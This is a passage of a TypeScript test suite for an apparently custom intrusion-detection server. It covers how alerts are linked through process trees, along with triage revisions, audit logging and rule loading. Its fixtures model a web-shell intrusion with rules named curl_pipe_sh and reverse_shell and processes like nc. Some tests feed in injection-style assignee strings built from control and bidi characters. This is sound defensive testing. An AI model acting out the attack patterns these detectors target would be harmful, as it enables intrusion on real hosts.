    raise(store, 'download', T0 + 1000, 'curl_pipe_sh', [exec(curl, [sh, nginx])]);
    raise(store, 'revshell', T0 + 2000, 'reverse_shell', [exec(nc, [sh2, sh, nginx])]);
    raise(store, 'same', T0 + 3000, 'recon', [{ ...exec(sh, [nginx]), event: { id: 'e-other' } }]);
    // Another tree on the same host; the same entity id from another agent with the same host name; one from long before.
    raise(store, 'elsewhere', T0 + 1500, 'cron_write', [exec(proc('x-1', 900, 'vi'), [proc('b-1', 800, 'bash')])]);
    raise(store, 'impostor', T0 + 1500, 'reverse_shell', [exec(proc('s-1', 200, 'sh'), [])], 'agent-2');
    raise(store, 'old', T0 - 7 * 3_600_000, 'reverse_shell', [exec(nc, [sh])]);
    raise(store, 'no-process', T0 + 100, 'ssh_brute_force', [{ event: { id: 'auth-1' }, agent: { id: 'agent' } }]);

    const view = (id: string) => store.related(id)?.map((r) => [r.id, r.relation, r.process.name]);
    assert.deepEqual(view('webshell'), [
      ['download', 'downstream', 'sh'],
      ['revshell', 'downstream', 'sh'],
      ['same', 'same_process', 'sh'],
    ]);
    assert.deepEqual(view('download'), [['webshell', 'upstream', 'sh'], ['same', 'upstream', 'sh']], 'the reverse shell is a sibling: linked through the web shell alert, not to this one');
    assert.deepEqual(view('revshell'), [['webshell', 'upstream', 'sh'], ['same', 'upstream', 'sh']]);
    assert.deepEqual(view('elsewhere'), []);
    assert.deepEqual(view('no-process'), [], 'an alert without a process links to nothing');
    assert.equal(store.related('nope'), undefined);
    // Another agent's alerts under the same host name, more than are looked at, push nothing out.
    store.batch(() => {
      for (let i = 0; i < 1100; i++) raise(store, `noise-${i}`, T0 + 500, 'reverse_shell', [exec(proc(`z-${i}`, 5000 + i, 'sh'), [])], 'agent-2');
    });
    assert.deepEqual(view('download'), [['webshell', 'upstream', 'sh'], ['same', 'upstream', 'sh']]);
    // Alerts from before the procs column: read from their documents, with the same answers.
    const before = ['webshell', 'download', 'revshell'].map(view);
    db.prepare('UPDATE alerts SET procs = NULL').run();
    assert.deepEqual(['webshell', 'download', 'revshell'].map(view), before);
    const first = store.related('webshell')?.[0];
    assert.deepEqual(first && { ...first }, { id: 'download', '@timestamp': new Date(T0 + 1000).toISOString(), rule: { id: 'curl_pipe_sh', title: 'curl_pipe_sh', severity: 'high' }, status: 'new', message: 'curl_pipe_sh fired', relation: 'downstream', process: { entity_id: 's-1', pid: 200, name: 'sh' } });
  });

  it('links through the processes of events folded into an alert later, whose document keeps them in order', () => {
    const db = openDatabase(':memory:');
    const store = new AlertStore(db);
    const bash = proc('b-1', 10, 'bash');
    const nc = proc('n-1', 20, 'nc');
    const sh = proc('s-1', 30, 'sh');
    raise(store, 'first', T0, 'shell', [exec(bash, [])]);
    raise(store, 'second', T0 + 1000, 'child_of_nc', [exec(sh, [nc])]);
    assert.deepEqual(store.related('first'), []);
    // The dedup key of a raised alert is its id here.
    assert.equal(store.fold('first', T0 - 1000, T0 + 500, exec(nc, [bash]), 20), true);
    assert.deepEqual(
      store.related('first')?.map((r) => [r.id, r.relation]),
      [['second', 'downstream']],
    );
    const folded = store.get('first');
    assert.deepEqual(folded?.events.map((e) => (e['process'] as { name: string }).name), ['bash', 'nc']);
    assert.equal(folded?.last_seen, new Date(T0 + 500).toISOString());
    assert.equal(folded?.count, 2);
  });
});

describe('alerts: triage limits', () => {
  const raised = (store: AlertStore, id: string) =>
    store.insert({
      alert: { id, '@timestamp': new Date(T0).toISOString(), last_seen: new Date(T0).toISOString(), count: 1, rule: { id: 'r', title: 'T', severity: 'high', tags: [], type: 'rule' }, message: 'm', host: { id: 'agent', name: 'web1' }, events: [], status: 'new', assignee: null },
      dedupKey: id,
    });

  it('an alert takes a bounded number of comments: the one past it is refused, coded, and nothing is stored', () => {
    const store = new AlertStore(openDatabase(':memory:'));
    raised(store, 'a1');
    for (let i = 0; i < MAX_ALERT_COMMENTS; i++) store.comment('a1', 'ana', `note ${i}`);
    assert.throws(() => store.comment('a1', 'mallory', 'one more'), (e: unknown) => e instanceof HadesError && e.code === 'HADES_ERR_ALERT_TOO_MANY_COMMENTS' && /a1/.test(e.message));
    assert.equal(store.get('a1')?.comments.length, MAX_ALERT_COMMENTS);
    assert.equal(store.get('a1')?.comments.at(-1)?.text, `note ${MAX_ALERT_COMMENTS - 1}`);
  });

  it('an assignee is a name on one line: blank or with control, line, direction or invisible characters it is refused', () => {
    const store = new AlertStore(openDatabase(':memory:'));
    raised(store, 'a1');
    for (const bad of ['   ', 'ana\nresolved by admin', '\u001b[2Jana', '\t', 'a\u2028b', 'ana\u202etsyla', 'an\u200ba']) {
      assert.throws(() => store.triage('a1', { assignee: bad }), (e: unknown) => e instanceof HadesError && e.code === 'HADES_ERR_API_INVALID_REQUEST' && /assignee/.test(e.message), JSON.stringify(bad));
    }
    assert.equal(store.get('a1')?.assignee, null, 'nothing was set');
    assert.equal(store.triage('a1', { assignee: 'Ana Lyst' })?.assignee, 'Ana Lyst');
    assert.equal(store.triage('a1', { assignee: null })?.assignee, null);
  });
});

describe('alerts: triage revisions and audit', () => {
  const raised = (store: AlertStore, id: string) =>
    store.insert({
      alert: { id, '@timestamp': new Date(T0).toISOString(), last_seen: new Date(T0).toISOString(), count: 1, rule: { id: 'r', title: 'T', severity: 'high', tags: [], type: 'rule' }, message: 'm', host: { id: 'agent', name: 'web1' }, events: [{ event: { id: 'e1' }, agent: { id: 'agent' } }], status: 'new', assignee: null },
      dedupKey: id,
    });
  const changed = (e: unknown) => e instanceof HadesError && e.code === 'HADES_ERR_ALERT_CHANGED';

  it('a triage against a revision the alert no longer has is refused, coded, and changes nothing; without one the last triage wins', () => {
    const store = new AlertStore(openDatabase(':memory:'));
    raised(store, 'a1');
    assert.equal(store.get('a1')?.revision, 1, 'raised at revision 1');
    // Two analysts read revision 1; the first triages.
    const first = store.triage('a1', { status: 'acknowledged', assignee: 'ana' }, { expected: [1] });
    assert.equal(first?.revision, 2);
    // The second, from the same stale read, is refused with the current state.
    assert.throws(
      () => store.triage('a1', { status: 'false_positive', assignee: 'bo' }, { expected: [1] }),
      (e: unknown) => changed(e) && (e as HadesError).details?.['revision'] === 2 && (e as HadesError).details?.['assignee'] === 'ana' && /revision 2/.test((e as HadesError).message),
    );
    assert.deepEqual([store.get('a1')?.status, store.get('a1')?.assignee, store.get('a1')?.revision], ['acknowledged', 'ana', 2], 'the first triage stands');
    // An empty list (tags this server never gave) matches nothing; any of several matches.
    assert.throws(() => store.triage('a1', { status: 'resolved' }, { expected: [] }), changed);
    assert.equal(store.triage('a1', { status: 'resolved' }, { expected: [1, 2] })?.revision, 3);
    // Without a revision: the last writer wins, as before.
    assert.equal(store.triage('a1', { assignee: null })?.revision, 4);
    assert.equal(store.search({}).alerts[0]?.revision, 4, 'searches carry the revision too');
    // An unknown alert is unknown, whatever revision is given.
    assert.equal(store.triage('nope', { status: 'resolved' }, { expected: [1] }), undefined);
  });

  it('a match folded in or a comment does not make a triage stale', () => {
    const store = new AlertStore(openDatabase(':memory:'));
    raised(store, 'a1');
    assert.ok(store.fold('a1', T0 - 1000, T0 + 10, { event: { id: 'e2' }, agent: { id: 'agent' } }, 20));
    store.comment('a1', 'ana', 'looking');
    assert.equal(store.get('a1')?.count, 2);
    assert.equal(store.triage('a1', { status: 'resolved' }, { expected: [1] })?.status, 'resolved');
  });

  it('a triage, a comment or a suppression is written with its audit record or not at all', () => {
    const db = openDatabase(':memory:');
    const store = new AlertStore(db);
    const audit = new AuditLog(db);
    raised(store, 'a1');
    const triage = (status: 'acknowledged' | 'resolved') =>
      store.triage('a1', { status }, { record: (from, to) => audit.record({ actor: 'ana', action: 'alert.triage', target: 'a1', details: { status, from, revision: to.revision } }) });
    // Together: the change and its record.
    assert.equal(triage('acknowledged')?.revision, 2);
    assert.deepEqual(audit.list({ action: 'alert.triage', limit: 10 }).map((e) => e.details), [{ status: 'acknowledged', from: { status: 'new', assignee: null, revision: 1 }, revision: 2 }]);
    // The audit log refuses writes (as a full disk or a broken table would): nothing changes.
    db.exec("CREATE TRIGGER audit_refused BEFORE INSERT ON audit_log BEGIN SELECT RAISE(ABORT, 'audit log refused'); END");
    assert.throws(() => triage('resolved'), /audit log refused/);
    assert.deepEqual([store.get('a1')?.status, store.get('a1')?.revision], ['acknowledged', 2], 'the triage was undone');
    assert.throws(() => store.comment('a1', 'ana', 'unaudited', () => audit.record({ actor: 'ana', action: 'alert.comment', target: 'a1' })), /audit log refused/);
    assert.equal(store.get('a1')?.comments.length, 0, 'the comment was undone');
    assert.throws(() => store.addSuppression({ ruleId: '*', until: Date.now() + 60_000, reason: 'x', createdBy: 'ana' }, (s) => audit.record({ actor: 'ana', action: 'suppression.create', target: s.id })), /audit log refused/);
    assert.deepEqual(store.listSuppressions(), [], 'the suppression was undone');
    db.exec('DROP TRIGGER audit_refused');
    const kept = store.addSuppression({ ruleId: '*', until: Date.now() + 60_000, reason: 'x', createdBy: 'ana' }, (s) => audit.record({ actor: 'ana', action: 'suppression.create', target: s.id }));
    db.exec("CREATE TRIGGER audit_refused BEFORE INSERT ON audit_log BEGIN SELECT RAISE(ABORT, 'audit log refused'); END");
    assert.throws(() => store.deleteSuppression(kept.id, (s) => audit.record({ actor: 'ana', action: 'suppression.delete', target: s.id })), /audit log refused/);
    assert.deepEqual(store.listSuppressions().map((s) => s.id), [kept.id], 'the lifting was undone');
    assert.equal(audit.list({ limit: 100 }).length, 2, 'only the records of what was written');
  });
});

describe('alerts: triage history', () => {
  const raised = (store: AlertStore, id: string) =>
    store.insert({
      alert: { id, '@timestamp': new Date(T0).toISOString(), last_seen: new Date(T0).toISOString(), count: 1, rule: { id: 'r', title: 'T', severity: 'high', tags: [], type: 'rule' }, message: 'm', host: { id: 'agent', name: 'web1' }, events: [{ event: { id: `e-${id}` }, agent: { id: 'agent' } }], status: 'new', assignee: null },
      dedupKey: id,
    });
  it('is read back from the audit records of the alert\'s triages, oldest first, and of no other alert or action', () => {
    const db = openDatabase(':memory:');
    const store = new AlertStore(db);
    const audit = new AuditLog(db);
    raised(store, 'a1');
    raised(store, 'a2');
    const triage = (id: string, actor: string, change: { status?: 'acknowledged' | 'resolved'; assignee?: string | null }) =>
      store.triage(id, change, { record: (from, to) => audit.record({ actor, action: 'alert.triage', target: id, details: { ...change, from: { status: from.status, assignee: from.assignee }, revision: to.revision } }) });
    triage('a1', 'ana', { status: 'acknowledged', assignee: 'ana' });
    triage('a2', 'bo', { status: 'resolved' });
    store.comment('a1', 'ana', 'looking', () => audit.record({ actor: 'ana', action: 'alert.comment', target: 'a1' }));
    triage('a1', 'bo', { assignee: null });
    triage('a1', 'bo', { status: 'resolved' });
    const history = triageHistory(audit.list({ target: 'a1', action: 'alert.triage', limit: 100 }));
    assert.deepEqual(
      history.map(({ time, ...rest }) => (assert.match(time, /^\d{4}-\d\d-\d\dT/), rest)),
      [
        { actor: 'ana', status: 'acknowledged', assignee: 'ana', from: { status: 'new', assignee: null }, revision: 2 },
        { actor: 'bo', assignee: null, from: { status: 'acknowledged', assignee: 'ana' }, revision: 3 },
        { actor: 'bo', status: 'resolved', from: { status: 'acknowledged', assignee: null }, revision: 4 },
      ],
    );
    assert.deepEqual(audit.list({ target: 'a2', limit: 100 }).map((e) => e.actor), ['bo'], 'by target');
    assert.deepEqual(triageHistory(audit.list({ target: 'a1', limit: 100 })).length, 3, 'comments are not triages');
  });
});

describe('alerts: configuration', () => {
  it('a server configuration whose outputs disagree gets coded problems at the key\'s line', () => {
    const text = [
      'alerts:',
      '  outputs:',
      '    - name: siem',
      '      type: syslog',
      '      syslog: { host: 127.0.0.1, transport: udp }',
      '    - name: siem',
      '      type: file',
      '      file: { path: /var/log/hades/alerts.ndjson }',
      '',
    ].join('\n');
    const result = parseRoleConfig(text, 'server');
    assert.equal(result.ok, false);
    const problems = result.ok ? [] : result.problems;
    assert.ok(problems.some((p) => p.code === 'HADES_ERR_ALERT_OUTPUT_CONFIG' && p.line === 6), JSON.stringify(problems));
    assert.equal(parseRoleConfig('alerts: { dedup_window_s: 60 }\n', 'server').ok, true);
    const withPort = parseRoleConfig('alerts:\n  outputs:\n    - name: siem\n      type: syslog\n      syslog: { host: "127.0.0.1:6514", transport: tcp }\n', 'server');
    assert.ok(!withPort.ok && withPort.problems.some((p) => p.code === 'HADES_ERR_ALERT_OUTPUT_CONFIG' && /includes a port/.test(p.message) && p.line === 5), JSON.stringify(withPort));
    assert.equal(parseRoleConfig('alerts:\n  outputs:\n    - name: siem\n      type: syslog\n      syslog: { host: "fd00::1", transport: udp }\n', 'server').ok, true, 'an IPv6 address is a host');
  });
});

describe('alerts: rule source', () => {
  it('reads the configured folders after the default pack, and converts Sigma folders, reporting what is not loaded', async () => {
    const dir = path.join(root, 'rules');
    mkdirSync(path.join(dir, 'sub'), { recursive: true });
    writeFileSync(path.join(dir, 'b.yaml'), 'rules: []\n');
    writeFileSync(path.join(dir, 'sub', 'a.yml'), 'rules: []\n');
    writeFileSync(path.join(dir, 'notes.txt'), 'not a rule file');
    const sigmaDir = path.join(root, 'sigma');
    mkdirSync(sigmaDir, { recursive: true });
    writeFileSync(
      path.join(sigmaDir, 'whoami.yml'),
      'title: Whoami\nid: 11111111-2222-3333-4444-555555555555\nlogsource: { product: linux, category: process_creation }\ndetection:\n  sel: { Image|endswith: /whoami }\n  condition: sel\nlevel: low\n',
    );
    writeFileSync(path.join(sigmaDir, 'auditd.yml'), 'title: Audit\nid: 11111111-2222-3333-4444-666666666666\nlogsource: { product: linux, service: auditd }\ndetection:\n  sel: { type: SYSCALL }\n  condition: sel\nlevel: low\n');
    const source = await ruleSource({ default_pack: false, dirs: [dir], sigma_dirs: [sigmaDir] })();
    assert.deepEqual(source.files.slice(0, 2).map((f) => path.relative(dir, f.name)), ['b.yaml', 'sub/a.yml']);
    assert.equal(source.files.length, 3, 'two rule files and one converted Sigma file');
    assert.equal(source.problems?.length, 1);
    assert.equal(source.problems?.[0]?.severity, 'warning');
    assert.match(source.problems?.[0]?.message ?? '', /Audit/);
    const withPack = await ruleSource({ default_pack: true, dirs: [], sigma_dirs: [] })();
    assert.ok(withPack.files.length > 0, 'the default pack is read');
    await assert.rejects(ruleSource({ default_pack: false, dirs: [path.join(root, 'missing')], sigma_dirs: [] })(), (e: unknown) => e instanceof HadesError && e.code === 'HADES_ERR_RULE_PACK_READ');
  });
});
